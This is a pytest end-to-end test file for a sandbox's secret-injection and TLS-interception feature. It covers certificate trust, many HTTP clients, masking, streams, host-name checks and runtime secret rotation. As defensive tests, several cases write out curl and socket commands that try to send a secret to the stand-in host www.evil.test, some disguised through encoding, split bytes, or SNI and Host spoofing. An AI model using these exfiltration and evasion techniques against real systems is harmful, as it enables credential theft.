"""Secrets and TLS interception with programs as they are: clients in a guest, servers as they are outside of it.

One machine for nearly all; what it talks to is in lib/tlsworld.py. Each request has a mark of its own in its path, and
what the servers wrote down of it says what arrived.
"""
import base64
import hashlib
import json
import os
import pathlib
import re
import secrets
import shutil
import subprocess
import urllib.parse

import pytest

from conftest import TOP, need
from lib import tlsworld
from lib.cli import wait_until
from test_clients import repository, wheel

IMAGE = "t/tls:1"
BIG = int(os.environ.get("MSB_TEST_BIG", 32 << 20))
GO = shutil.which("go") or "/usr/local/go/bin/go"
JAVA = pathlib.Path("/usr/lib/jvm")


def value(extra=""):
    return f"v{secrets.token_hex(20)}{extra}"


# What must be quoted in each place is in it.
VALUES = {"KEY": value(), "QUERY": value("&a=b +%/?#"), "BODY": value('"\\/{&=+ %\u00fc'), "MASK": value(), "PASS": value(),
          "SILENT": value(), "LIVE": value(), "GONE": value()}
HOSTS = ("api.allowed.test,web.allowed.test,raw.allowed.test,*.deep.allowed.test,expired.allowed.test,own.allowed.test,"
         "wrong.allowed.test,noverify.allowed.test,nobody.allowed.test,moved.allowed.test")
SECRETS = [f"KEY@{HOSTS}", "QUERY:query@api.allowed.test", "BODY:body@api.allowed.test", "MASK:header,mask@api.allowed.test",
           "PASS:violation=passthrough@api.allowed.test", "SILENT:violation=block@api.allowed.test", "LIVE@api.allowed.test",
           "GONE@api.allowed.test"]


@pytest.fixture(scope="module")
def image():
    why = tlsworld.why_not() or (None if shutil.which("mmdebstrap") else "mmdebstrap is not installed")
    if why:
        pytest.skip(why)
    r = subprocess.run([TOP / "tests/images/tls.py"], stdout=subprocess.PIPE, text=True, check=True)
    return pathlib.Path(r.stdout.strip())


class Machine:
    """A sandbox by name: what runs in it, what msb says of it."""

    def __init__(self, cli, world, name):
        self.cli, self.world, self.name = cli, world, name

    def sh(self, script, seconds=180, **kw):
        return self.cli("exec", self.name, "--", "bash", "-c", script, timeout=seconds, **kw)

    def ok(self, script, **kw):
        r = self.sh(script, **kw)
        assert r.returncode == 0, (script, r.returncode, r.out, r.err, self.log()[-1500:])
        return r.out

    def log(self):
        return self.cli.ok("logs", "--source", "system", self.name)

    def metrics(self):
        return json.loads(self.cli.ok("metrics", self.name, "--format", "json"))

    def ps(self):
        return json.loads(self.cli.ok("ps", self.name, "--format", "json"))

    def says(self, *words):
        """A line of the log has all these words."""
        wait_until(lambda: any(all(w in line for w in words) for line in self.log().splitlines()), 30,
                   f"no line has {words}:\n{self.log()[-2000:]}")


def fill(folder):
    """What servers serve, and what the guest has at /t."""
    (folder / "big").write_bytes(os.urandom(1 << 20) * (BIG >> 20))
    repository(folder)
    (folder / "repo").mkdir()
    (folder / "repo.git").rename(folder / "repo/repo.git")
    wheel(folder)
    (folder / "simple").rename(folder / "repo/simple")
    t = folder / "t"
    t.mkdir()
    shutil.copy(folder / "ca.pem", t)
    if pathlib.Path(GO).exists():
        subprocess.run([GO, "build", "-o", t / "tlsclient", TOP / "tests/e2e/lib/tlsclient.go"], check=True,
                       env=dict(os.environ, CGO_ENABLED="0", GOFLAGS="-mod=mod", GO111MODULE="off"))
    return t


@pytest.fixture(scope="module")
def world(image, tmp_path_factory):
    w = tlsworld.World(tmp_path_factory.mktemp("world"), "clients")
    w.t = fill(w.folder)
    yield w
    w.close()


@pytest.fixture(scope="module")
def cli(build_dir, image, world, tmp_path_factory):
    c = tlsworld.SpaceCli(build_dir, tmp_path_factory.mktemp("secrets") / "home", world.host)
    c.ok("load", "-q", "-i", image, "-t", IMAGE)
    yield c
    c("rm", "-q", "-f", *c.ok("ls", "-q").split())


def common(world):
    return ["-q", "-d", "-m", "512M", "--dns-nameserver", tlsworld.FAR, "--tls-upstream-ca-cert", world.ca.pem,
            "-v", f"{world.t}:/t:ro"]


@pytest.fixture(scope="module")
def m(cli, world):
    java = ["-v", f"{JAVA}:{JAVA}:ro"] if os.environ.get("MSB_TEST_JAVA") else []
    cli.ok("run", *common(world), "-n", "main", "--tls-intercept", "--tls-intercept-port", "443", "--tls-intercept-port",
           "8443", "--tls-bypass", "*.other.test", "--tls-no-verify-upstream-for", "noverify.allowed.test",
           "--net", "public", "--net-rule", f"allow@{tlsworld.FAR}", *java,
           *(word for s in SECRETS for word in ("--secret", s)), IMAGE, "--", "sleep", "100000", env=VALUES)
    return Machine(cli, world, "main")


@pytest.fixture
def mark():
    return secrets.token_hex(8)


def one(world, mark):
    got = world.requests(mark)
    assert len(got) == 1, got
    return got[0]


# ---- what the guest has -----------------------------------------------------

def test_the_guest_has_placeholders_and_no_value(m):
    env = m.ok("env; cat /proc/1/environ | tr '\\0' '\\n'")
    for name, v in VALUES.items():
        assert re.search(rf"^{name}=MSB_[0-9a-f]{{32}}$", env, re.M), env
        assert v not in env


def test_every_kind_of_store_has_the_authority(m):
    out = m.ok("set -e; cd /etc/ssl/certs; openssl x509 -in /.msb/ca.pem -noout -subject -hash; grep -c BEGIN /.msb/ca.pem; "
               "for f in /.msb/ca-bundle.pem ca-certificates.crt $(openssl x509 -in /.msb/ca.pem -noout -hash).0; do "
               "tail -c $(stat -c %s /.msb/ca.pem) $f | tr -d '\\n' | sha256sum; done; "
               "tr -d '\\n' < /.msb/ca.pem | sha256sum; head -c 4 java/cacerts 2>/dev/null | od -An -tx1; mount")
    lines = out.splitlines()
    assert "microsandbox CA" in lines[0] and lines[2] == "1"
    assert len(set(lines[3:6])) == 1
    assert "PRIVATE" not in m.ok("cat /.msb/*.pem")
    assert m.sh("echo x > /.msb/ca.pem").returncode != 0


def test_the_machines_own_programs_may_write_the_bundle(m):
    """update-ca-certificates renames a new file over it; ours is behind the new one a moment later, everywhere."""
    there = 'grep -cF "$(sed -n 2p %s)" %s'
    out = m.ok("cp /t/ca.pem /usr/local/share/ca-certificates/extra.crt && update-ca-certificates 2>&1", seconds=600)
    assert "1 added, 0 removed" in out, out
    for f in ("/.msb/ca-bundle.pem", "/etc/ssl/certs/ca-certificates.crt"):
        for c in ("/t/ca.pem", "/.msb/ca.pem"):
            wait_until(lambda c=c, f=f: m.sh(there % (c, f)).out == "1\n", 90, f"{c} is not in {f}")
    # The image's own file has only what was written.
    assert m.sh("umount /etc/ssl/certs/ca-certificates.crt; " + there % ("/.msb/ca.pem", "/etc/ssl/certs/ca-certificates.crt")
                ).out == "0\n"
    m.ok("touch /etc/ssl/certs/any")
    wait_until(lambda: m.sh(there % ("/.msb/ca.pem", "/etc/ssl/certs/ca-certificates.crt")).out == "1\n", 90, "it stays away")


def test_variables_are_in_commands_and_login_shells(m):
    names = ("SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "GIT_SSL_CAINFO", "PIP_CERT", "AWS_CA_BUNDLE",
             "CARGO_HTTP_CAINFO", "DENO_CERT", "NODE_EXTRA_CA_CERTS")
    for where in ("env", "env -i bash -l -c env", "su - -c env"):
        env = dict(line.split("=", 1) for line in m.ok(where).splitlines() if "=" in line)
        for n in names:
            extra = n in ("DENO_CERT", "NODE_EXTRA_CA_CERTS")
            assert env.get(n) == ("/.msb/ca.pem" if extra else "/.msb/ca-bundle.pem"), (where, n)
    r = m.cli("exec", "-e", "SSL_CERT_FILE=/mine", m.name, "--", "sh", "-c", "echo $SSL_CERT_FILE $PIP_CERT")
    assert r.out == "/mine /.msb/ca-bundle.pem\n"


# ---- clients ----------------------------------------------------------------

PY = "python3 - \"$U\" \"Bearer $KEY\" <<'E'\nimport sys\nurl, auth = sys.argv[1:]\nh = {'Authorization': auth}\n"
CLIENTS = {
    "curl-h1": 'curl -sS -m 90 --http1.1 -H "Authorization: Bearer $KEY" "$U"',
    "curl-h2": 'curl -sS -m 90 --http2 -H "Authorization: Bearer $KEY" "$U"',
    "curl-clean": 'K=$KEY; env -i PATH=$PATH curl -sS -m 90 -H "Authorization: Bearer $K" "$U"',
    "wget": 'wget -q -O - --content-on-error -T 90 -t 1 --header "Authorization: Bearer $KEY" "$U"',
    "requests": PY + "import requests\nprint(requests.get(url, headers=h, timeout=90).text)\nE",
    "httpx-h2": PY + "import httpx\nr = httpx.Client(http2=True).get(url, headers=h, timeout=90)\nprint(r.http_version, r.text)\nE",
    "aiohttp": PY + """import asyncio, aiohttp
async def main():
    async with aiohttp.ClientSession() as s, s.get(url, headers=h) as r:
        print(await r.text())
asyncio.run(main())
E""",
    "urllib": PY + """import urllib.request, urllib.error
try:
    print(urllib.request.urlopen(urllib.request.Request(url, headers=h), timeout=90).read().decode())
except urllib.error.HTTPError as e:
    print(e.read().decode())
E""",
    "node": """node -e 'fetch(process.env.U, {headers: {authorization: "Bearer " + process.env.KEY}})
        .then(r => r.text()).then(console.log, e => {console.log(e.cause); process.exit(1)})'""",
    "node-h2": """node -e 'const u = new URL(process.env.U), c = require("http2").connect(u.origin);
        const q = c.request({":path": u.pathname, authorization: "Bearer " + process.env.KEY});
        q.on("data", d => process.stdout.write(d)); q.on("end", () => c.close()); q.end()'""",
    "openssl": """H=${U#https://}; P=/${H#*/}; H=${H%%/*}; { printf 'GET %s HTTP/1.1\\r\\nHost: %s\\r\\nAuthorization: Bearer '\
"%s\\r\\nConnection: close\\r\\n\\r\\n" "$P" "$H" "$KEY"; sleep 3; } | env -u SSL_CERT_FILE openssl s_client -quiet -verify_return_error \
-connect $H:443 -servername $H 2>/tmp/err || cat /tmp/err""",
    "go-h2": '/t/tlsclient "$U" "Bearer $KEY"',
    "go-h1": '/t/tlsclient "$U" "Bearer $KEY" h1',
}


@pytest.mark.parametrize("client", CLIENTS)
def test_a_client_has_the_value_where_it_may_and_nothing_elsewhere(m, world, mark, client):
    if client.startswith("go") and not (world.t / "tlsclient").exists():
        pytest.skip("go is not installed")
    out = m.ok(f"export U=https://api.allowed.test/sink/{mark}\n{CLIENTS[client]}")
    assert "ok 0 " in out, out
    got = one(world, mark)
    assert got["headers"]["authorization"] == f"Bearer {VALUES['KEY']}"
    assert got["version"] == ("2.0" if client.endswith("h2") or client in ("curl-clean",) else "1.1"), got
    before = m.metrics()["secret_violations"]
    r = m.sh(f"export U=https://www.evil.test/sink/{mark}\n{CLIENTS[client]}")
    assert "microsandbox: " in r.out, (r.out, r.err)
    assert len(world.requests(mark)) == 1
    assert m.metrics()["secret_violations"] == before + 1
    m.says("secret KEY", "www.evil.test", f"/sink/{mark}", "blocked")


def test_git_clones_with_a_header_and_with_a_name(m, world, mark):
    m.ok(f"rm -rf /tmp/{mark}; git -c http.extraHeader=\"Authorization: Bearer $KEY\" clone -q "
         f"https://web.allowed.test/repo/repo.git /tmp/{mark} && git -C /tmp/{mark} fsck --full", seconds=120)
    assert f"[Bearer {VALUES['KEY']}]" in (world.folder / "git.log").read_text()
    m.ok(f"rm -rf /tmp/{mark}; git clone -q https://me:$KEY@web.allowed.test/private/repo.git /tmp/{mark}", seconds=120)
    basic = base64.b64encode(f"me:{VALUES['KEY']}".encode()).decode()
    assert f"[Basic {basic}]" in (world.folder / "git.log").read_text()
    out = m.ok(f"cd /tmp/{mark} && sha256sum file-*")
    for line in out.splitlines():
        digest, name = line.split()
        assert hashlib.sha256((world.folder / "work" / name).read_bytes()).hexdigest() == digest


def test_pip_installs_with_a_password(m, world):
    m.ok("pip install -q --break-system-packages --target /tmp/pip --disable-pip-version-check "
         "--index-url https://me:$KEY@web.allowed.test/repo/simple/ msb-hello", seconds=120)
    assert "hello from pip" in m.ok("PYTHONPATH=/tmp/pip python3 -c 'import msb_hello; print(msb_hello.text)'")


# ---- bodies and places ------------------------------------------------------

@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_bodies_pass_byte_for_byte(m, world, mark, version):
    want = hashlib.sha256((world.folder / "big").read_bytes()).hexdigest()
    seconds = 60 + (BIG >> 20)
    server = "web" if version == "--http2" else "api"  # nginx, Node.js
    assert want in m.ok(f"curl -sS {version} -H \"X: $KEY\" https://{server}.allowed.test/file/big | tee /tmp/big | sha256sum",
                        seconds=seconds)
    out = m.ok(f"curl -sS {version} -H \"X: $KEY\" -T /tmp/big https://api.allowed.test/sink/{mark}", seconds=seconds)
    assert out == f"ok {BIG} {want}"
    assert one(world, mark)["headers"]["x"] == VALUES["KEY"]


@pytest.mark.parametrize("version", ["--http1.1", "--http2"])
def test_basic_query_and_body(m, world, mark, version):
    curl = f"curl -sS -m 90 {version}"
    m.ok(f'{curl} -u "us:er:$KEY" https://api.allowed.test/sink/{mark}-basic')
    auth = one(world, f"{mark}-basic")["headers"]["authorization"]
    assert base64.b64decode(auth.split()[1]).decode() == f"us:er:{VALUES['KEY']}"
    m.ok(f'{curl} "https://api.allowed.test/sink/{mark}-query?a=1&k=$QUERY&z=2"')
    query = urllib.parse.parse_qs(one(world, f"{mark}-query")["url"].split("?")[1])
    assert query == {"a": ["1"], "k": [VALUES["QUERY"]], "z": ["2"]}
    m.ok(f'{curl} -H "Content-Type: application/json" -d "{{\\"k\\": \\"$BODY\\", \\"n\\": 1}}" '
         f"https://api.allowed.test/sink/{mark}-json")
    body = one(world, f"{mark}-json")["body"].encode("latin1")
    assert json.loads(body) == {"k": VALUES["BODY"], "n": 1}
    m.ok(f'{curl} --data-urlencode "k=$BODY" -d n=1 https://api.allowed.test/sink/{mark}-form')
    assert urllib.parse.parse_qs(one(world, f"{mark}-form")["body"]) == {"k": [VALUES["BODY"]], "n": ["1"]}
    m.ok(f'printf "x%s$BODY%sy" | {curl} -H "Content-Type: text/plain" -T - https://api.allowed.test/sink/{mark}-chunks')
    assert one(world, f"{mark}-chunks")["body"].encode("latin1").decode() == f"x{VALUES['BODY']}y"


def test_a_place_that_is_not_allowed_keeps_the_placeholder(m, world, mark):
    """KEY may stand in headers: in a query it goes out as it is, and a line says so."""
    m.ok(f'curl -sS -m 90 "https://api.allowed.test/sink/{mark}?k=$KEY"')
    assert re.search(r"k=MSB_[0-9a-f]{32}$", one(world, mark)["url"])


@pytest.mark.parametrize("version, path", [("--http1.1", "echo"), ("--http1.1", "chunks"), ("--http2", "chunks")])
def test_answers_are_masked(m, world, mark, version, path):
    placeholder = m.ok("printf %s $MASK")
    out = m.ok(f'curl -sS -m 90 {version} --compressed -H "Authorization: Bearer $MASK" https://api.allowed.test/{path}/{mark}')
    assert json.loads(out)["headers"]["authorization"] == f"Bearer {placeholder}"
    assert one(world, mark)["headers"]["authorization"] == f"Bearer {VALUES['MASK']}"
    assert m.metrics()["secrets_masked"] > 0


# ---- streams ----------------------------------------------------------------

def test_a_websocket_goes_on_after_the_handshake(m, world, mark):
    out = m.ok(f"""python3 - <<'E'
import os, socket, ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(("raw.allowed.test", 443), 90),
                                             server_hostname="raw.allowed.test")
s.settimeout(90)
key = os.environ["KEY"].encode()
s.sendall(b"GET /ws/{mark} HTTP/1.1\\r\\nHost: raw.allowed.test\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
          b"Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: x\\r\\nAuthorization: Bearer " + key + b"\\r\\n\\r\\n")
got = b""
while b"\\r\\n\\r\\n" not in got:
    got += s.recv(4096)
print(got.split(b"\\r\\n")[0].decode())
data = os.urandom(300000)
for i in range(0, len(data), 10000):
    s.sendall(data[i:i + 10000])
    back = b""
    while len(back) < 10000:
        back += s.recv(10000 - len(back))
    assert back == data[i:i + 10000]
print("all back")
s.sendall(b"xx" + key + b"yy" * 100)
try:
    print("came back" if s.recv(4096) else "ended")
except OSError as e:
    print("ended", e)
E""")
    assert "101 Switching" in out and "all back" in out and out.splitlines()[-1].startswith("ended"), out
    assert f"Bearer {VALUES['KEY']}".encode() in world.raw(mark)[0]["head"]
    assert b"MSB_" not in world.raw(mark)[0]["body"]
    m.says("secret KEY", "raw.allowed.test", "the connection was ended")


def test_events_come_when_they_are_sent(m, mark):
    out = m.ok(f'curl -sSN -m 90 -H "Authorization: Bearer $KEY" https://raw.allowed.test/events/{mark} | '
               "while read -r line; do [ -z \"$line\" ] || echo \"$line $(date +%s.%N)\"; done")
    times = [float(line.split()[-1]) for line in out.splitlines()]
    gaps = [b - a for a, b in zip(times, times[1:])]
    assert len(times) == 5 and times[-1] - times[0] > 1 and sum(g > 0.2 for g in gaps) >= 3, out


def test_heads_are_as_they_were_sent(m, world, mark):
    """Order and spelling of what is not ours to change."""
    m.ok(f'curl -sS -m 90 --http1.1 -H "x-OdD: 1" -H "X-Key:  $KEY  " -H "aCCept: q" -H "X-Empty;" '
         f"https://raw.allowed.test/{mark}")
    line, *head = world.raw(mark)[0]["head"].decode().rstrip().split("\r\n")
    fields = [(n, v.strip()) for n, _, v in (h.partition(":") for h in head)]
    assert line == f"GET /{mark} HTTP/1.1" and [n for n, _ in fields] == [
        "Host", "User-Agent", "x-OdD", "X-Key", "aCCept", "X-Empty"], head
    assert fields[3:] == [("X-Key", VALUES["KEY"]), ("aCCept", "q"), ("X-Empty", "")]


# ---- names ------------------------------------------------------------------

@pytest.mark.parametrize("url", ["https://API.Allowed.TEST", "https://x.deep.allowed.test", "https://deep.allowed.test",
                                 "https://api.allowed.test:443", "https://raw.allowed.test:8443"])
def test_spellings_of_an_allowed_name(m, world, mark, url):
    out = m.sh(f'curl -sS -m 90 -H "X-K: $KEY" {url}/sink/{mark}')
    assert out.returncode == 0, (out.out, out.err)
    seen = [r["headers"]["x-k"] for r in world.requests(mark)] + re.findall(
        r"X-K: (.*)\r", "".join(e["head"].decode() for e in world.raw(mark)))
    assert seen == [VALUES["KEY"]]


def test_a_trailing_dot_is_the_same_name_or_nothing(m, world, mark):
    r = m.sh(f'curl -sS -m 90 -H "X-K: $KEY" https://api.allowed.test./sink/{mark}')
    got = world.requests(mark)
    assert [g["headers"]["x-k"] for g in got] in ([VALUES["KEY"]], []), (r.out, r.err)
    assert got or "microsandbox: " in r.out, (r.out, r.err)


WRONG = {
    "evil SNI, allowed Host": '-H "Host: api.allowed.test" https://www.evil.test',
    "allowed SNI, evil Host": '-H "Host: www.evil.test" https://api.allowed.test',
    "allowed SNI, another allowed Host": '-H "Host: web.allowed.test" https://api.allowed.test',
    "an address": "-k https://93.184.216.34",
    "an allowed name's own address by hand": "--connect-to api.allowed.test:443:www.evil.test:443 https://www.evil.test",
    "a neighbour": "https://xapi.allowed.test",
    "below": "https://x.api.allowed.test",
    "a suffix": "https://api.allowed.test.evil.test",
}


@pytest.mark.parametrize("case", WRONG)
def test_a_wrong_name_gets_nothing(m, world, mark, case):
    for version in ("--http1.1", "--http2") if "SNI" in case else ("--http1.1",):
        r = m.sh(f'curl -sS -m 90 {version} -H "X-K: $KEY" {WRONG[case]}/sink/{mark}')
        assert world.requests(mark) == [], (r.out, r.err)
        assert "microsandbox: " in r.out or r.returncode != 0, (r.out, r.err)


def test_a_name_at_another_address_gets_nothing(m, world, mark):
    """The guest says that api.allowed.test is elsewhere: the address is not what our name server said."""
    r = m.sh(f'curl -sS -m 90 -H "X-K: $KEY" --resolve api.allowed.test:443:{tlsworld.RAW} https://api.allowed.test/{mark}')
    assert not any(VALUES["KEY"].encode() in e["head"] or b"MSB_" in e["head"] for e in world.raw(mark)), r.out
    assert "microsandbox: " in r.out or r.returncode != 0


def test_a_redirect_takes_nothing_along(m, world, mark):
    r = m.sh(f'curl -sS -m 90 -L --location-trusted -H "X-K: $KEY" https://api.allowed.test/to/www.evil.test/sink/{mark}')
    got = world.requests(mark)
    assert [g["host"] for g in got] == ["api.allowed.test"] and got[0]["headers"]["x-k"] == VALUES["KEY"]
    assert "microsandbox: " in r.out


# ---- clear text, ports, proxies ----------------------------------------------

@pytest.mark.parametrize("port", [80, 8080])
def test_clear_text_never_has_it(m, world, mark, port):
    before = m.metrics()["secret_violations"]
    r = m.sh(f'curl -sS -m 90 -H "X-K: $KEY" http://raw.allowed.test:{port}/{mark}')
    assert r.returncode != 0 or "microsandbox: " in r.out
    assert not any(b"MSB_" in e["head"] for e in world.raw(mark))
    assert m.metrics()["secret_violations"] == before + 1
    m.says("secret KEY", "clear", "blocked")
    assert m.ok(f"curl -sS -m 90 http://raw.allowed.test:{port}/{mark}-plain") == "ok\n"


def test_a_proxy_is_no_way_around(m, world, mark):
    proxy = f"HTTPS_PROXY=http://{tlsworld.FAR}:{tlsworld.PROXY_PORT}"
    assert "ok 0 " in m.ok(f'{proxy} curl -sS -m 90 -H "X-K: $KEY" https://api.allowed.test/sink/{mark}')
    assert one(world, mark)["headers"]["x-k"] == VALUES["KEY"]
    r = m.sh(f'{proxy} curl -sS -m 90 -H "X-K: $KEY" https://www.evil.test/sink/{mark}')
    assert "microsandbox: " in r.out and len(world.requests(mark)) == 1
    r = m.sh(f'{proxy} curl -sS -m 90 --proxy-header "X-K: $KEY" https://api.allowed.test/sink/{mark}')
    assert VALUES["KEY"] not in (world.folder / "tinyproxy.log").read_text() and len(world.requests(mark)) == 1, r.out


# ---- what servers and clients may not do -------------------------------------

@pytest.mark.parametrize("name, words", [("expired", "expired"), ("own", "self"), ("wrong", "name"), ("nobody", "")])
def test_a_server_that_cannot_be_believed_gets_nothing(m, world, mark, name, words):
    r = m.sh(f'curl -sS -m 90 -H "X-K: $KEY" https://{name}.allowed.test/{mark}')
    assert r.returncode != 0 and not world.raw(mark), (r.out, r.err)
    if words:
        m.says(f"{name}.allowed.test", words)


def test_a_client_that_trusts_others_only_fails_closed(m, world, mark):
    r = m.sh(f'curl -sS -m 90 --cacert /t/ca.pem --capath /t -H "X-K: $KEY" https://api.allowed.test/sink/{mark}')
    assert r.returncode == 60, (r.returncode, r.err)
    m.says("api.allowed.test", "--tls-bypass")
    r = m.sh("curl -sS -m 90 --pinnedpubkey sha256//YhKJKSzoTt2b5FP18fvpHo7fJYqQCjAa3HWY3tvRMwE= "
             f"https://api.allowed.test/sink/{mark}")
    assert r.returncode == 90 and not world.requests(mark), (r.returncode, r.err)


def test_what_is_bypassed_is_the_servers_own(m, world, mark):
    assert "ok 0 " in m.ok(f'curl -sS -m 90 --cacert /t/ca.pem -H "X-K: $KEY" https://www.other.test/sink/{mark}')
    assert one(world, mark)["headers"]["x-k"].startswith("MSB_")


def test_a_server_that_is_not_verified_gets_no_value(m, world, mark):
    assert m.ok(f"curl -sS -m 90 https://noverify.allowed.test/{mark}-plain") == "ok\n"
    r = m.sh(f'curl -sS -m 90 -H "X-K: $KEY" https://noverify.allowed.test/{mark}')
    assert "microsandbox: " in r.out and not world.raw(f"{mark} "), (r.out, r.err)


# ---- violations --------------------------------------------------------------

def test_passthrough_sends_the_placeholder(m, world, mark):
    assert "ok 0 " in m.ok(f'curl -sS -m 90 -H "X-K: $PASS" https://www.evil.test/sink/{mark}')
    assert one(world, mark)["headers"]["x-k"] == m.ok("printf %s $PASS")
    m.says("secret PASS", "www.evil.test")


def test_block_is_silent_and_counted(m, world, mark):
    before = m.metrics()["secret_violations"]
    r = m.sh(f'curl -sS -m 90 -H "X-K: $SILENT" https://www.evil.test/sink/{mark}')
    assert "microsandbox: " in r.out and not world.requests(mark)
    assert m.metrics()["secret_violations"] == before + 1
    assert "secret SILENT" not in m.log()


def test_a_placeholder_in_pieces_and_in_disguise_is_found(m, world, mark):
    """By many small records; percent-encoded; as JSON; in Basic's base64; in a path."""
    for i, words in enumerate([
            '-H "X-A: $(printf %s $KEY | sed s/_/%5F/)"', "-d \"{\\\"k\\\": \\\"$(printf %s $KEY | sed 's/_/\\\\u005f/')\\\"}\"",
            '-u "a:$KEY"', '--url-query "k=$KEY"', '-d "$KEY"', '-H "Cookie: a=$KEY; b=c"']):
        if "--url-query" in words:
            words = '-G -d "k=$KEY"'
        r = m.sh(f"curl -sS -m 90 --http1.1 {words} https://www.evil.test/sink/{mark}-{i}")
        assert not world.requests(f"{mark}-{i}"), (words, r.out)
    out = m.ok(f"""python3 - <<'E'
import os, socket, ssl
s = ssl.create_default_context().wrap_socket(socket.create_connection(("www.evil.test", 443), 90),
                                             server_hostname="www.evil.test")
for c in b"GET /sink/{mark}-x HTTP/1.1\\r\\nHost: www.evil.test\\r\\nX-K: " + os.environ["KEY"].encode() + b"\\r\\n\\r\\n":
    s.sendall(bytes([c]))
print(s.recv(4096).decode())
E""")
    assert "microsandbox: " in out and not world.requests(f"{mark}-x")


# ---- changes while it runs ----------------------------------------------------

def test_a_value_is_rotated_while_it_runs(m, world, mark):
    new = value()
    m.cli.ok("modify", "-q", "main", "--secret", "LIVE@api.allowed.test", env={**VALUES, "LIVE": new})
    m.ok(f'curl -sS -m 90 -H "X-K: $LIVE" https://api.allowed.test/sink/{mark}')
    assert one(world, mark)["headers"]["x-k"] == new
    VALUES["LIVE"] = new


def test_a_secret_is_removed_while_it_runs(m, world, mark):
    m.ok(f'curl -sS -m 90 -H "X-K: $GONE" https://api.allowed.test/sink/{mark}-1')
    assert one(world, f"{mark}-1")["headers"]["x-k"] == VALUES["GONE"]
    m.cli.ok("modify", "-q", "main", "--secret-rm", "GONE")
    r = m.sh(f'curl -sS -m 90 -H "X-K: $GONE" https://api.allowed.test/sink/{mark}-2')
    assert VALUES["GONE"] not in json.dumps(world.requests(f"{mark}-2")), r.out


# ---- other machines ------------------------------------------------------------

def test_an_authority_of_ones_own_and_the_end_by_a_violation(cli, world, mark):
    """The second machine: without --tls-intercept, its authority from files, and a violation ends it."""
    world.ca.openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-keyout", "mine.key", "-out", "mine.pem",
                     "-subj", "/O=Mine/CN=My  own CA", "-addext", "basicConstraints=critical,CA:TRUE")
    cli.ok("run", *common(world), "-n", "ends", "--tls-intercept-ca-cert", world.folder / "mine.pem", "--tls-intercept-ca-key",
           world.folder / "mine.key", "--secret", "KEY:violation=block-and-terminate@api.allowed.test", IMAGE, "--", "sleep",
           "1000", env=VALUES)
    e = Machine(cli, world, "ends")
    out = e.ok(f'curl -sSv -m 90 -H "X-K: $KEY" https://api.allowed.test/sink/{mark} 2>&1')
    assert "My  own CA" in out and one(world, mark)["headers"]["x-k"] == VALUES["KEY"]
    # Without --tls-intercept another host's TLS is its own.
    r = e.sh("curl -sS -m 90 https://www.evil.test/")
    assert r.returncode == 60, r.err
    assert "ok 0 " in e.ok(f"curl -sS -m 90 --cacert /t/ca.pem https://www.evil.test/sink/{mark}-2")
    r = e.sh(f'curl -sS -m 90 -H "X-K: $KEY" http://raw.allowed.test/{mark}')
    wait_until(lambda: e.ps()["status"] not in ("Running", "Starting"), 60, "it runs on")
    assert e.ps()["end_reason"] == "secret_violation", e.ps()
    assert not any(b"MSB_" in s["head"] for s in world.raw(mark))
    assert "KEY" in e.log() and "raw.allowed.test" in e.log()
    assert VALUES["KEY"] not in cli.ok("inspect", "ends", "--format", "json") + e.log()


@pytest.mark.skipif(not os.environ.get("MSB_TEST_JAVA"), reason="slow: MSB_TEST_JAVA=1 runs the host's Java in the guest")
def test_java_trusts_it_by_its_key_store(m, world, mark):
    need("javac")
    (world.t / "J.java").write_text("""import java.net.*;
public class J { public static void main(String[] a) throws Exception {
    URLConnection c = new URL(a[0]).openConnection(); c.setRequestProperty("X-K", a[1]);
    System.out.println(new String(c.getInputStream().readAllBytes())); } }
""")
    subprocess.run(["javac", "--release", "11", "J.java"], cwd=world.t, check=True)
    java = next(JAVA.glob("*/bin/java"))
    out = m.ok(f"mkdir -p /etc/{java.parts[4].rsplit('-', 1)[0]}; {java} -cp /t -Djava.security.properties=/dev/null J "
               f"https://api.allowed.test/sink/{mark} $KEY", seconds=200)
    assert "ok 0 " in out and one(world, mark)["headers"]["x-k"] == VALUES["KEY"]
